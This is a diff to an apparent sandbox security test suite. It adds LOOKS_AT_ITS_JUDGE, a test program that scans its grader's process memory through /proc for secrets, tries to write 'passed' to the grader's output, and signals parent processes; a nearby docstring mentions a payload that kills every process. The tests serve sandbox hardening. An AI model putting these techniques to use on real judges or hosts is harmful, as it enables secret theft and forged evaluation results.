@@ -242,8 +242,42 @@ ISOLATED_ATTACKS = {
 }
 """These reach for whatever is there: NEVER run them in a sandbox that is not isolated.
 
-As root, outside a PID namespace, the first would end every process of the machine.
+Outside a PID namespace, and without what docs/sandboxes.md lists for ``limited``, the one that kills
+everything would end every process of the user; as root, of the machine.
 """
+
+
+LOOKS_AT_ITS_JUDGE = """
+import os, re
+def parent_of(process):
+    return int(open(f"/proc/{process}/stat").read().rsplit(")")[-1].split()[1])
+SPAWNER = os.getppid()
+JUDGE = parent_of(SPAWNER)
+assert b"program.py" in open(f"/proc/{JUDGE}/cmdline", "rb").read(), "no process of this sandbox"
+def readable(process):
+    with open(f"/proc/{process}/maps") as maps, open(f"/proc/{process}/mem", "rb", 0) as memory:
+        for line in maps:
+            if " rw" in line and "[v" not in line:
+                start, end = (int(part, 16) for part in line.split()[0].split("-"))
+                memory.seek(start)
+                yield memory.read(min(end - start, 8 << 20))
+def tried(what):
+    try:
+        return what()
+    except OSError as error:
+        return type(error).__name__[:6]
+def hunt(process):
+    found = [match for data in readable(process) for match in re.findall(rb"zq7[s]ecret\\d*", data)]
+    return found[0].decode() if found else "nothing"
+def answer(n):
+    planted = "zq7" + "secret77"  # to be found in its own memory: the search works
+    return " ".join([
+        hunt(os.getpid())[:9], tried(lambda: hunt(JUDGE)), tried(lambda: hunt(SPAWNER)),
+        tried(lambda: open(f"/proc/{JUDGE}/fd/1", "wb").write(b"passed")),
+        tried(lambda: str(os.kill(JUDGE, 0))), tried(lambda: str(os.kill(SPAWNER, 0))),
+    ])
+"""
+"""Reaches for the processes of its own sandbox, and no others: it may run at any level."""
 
 
 def submission(code: str) -> str:
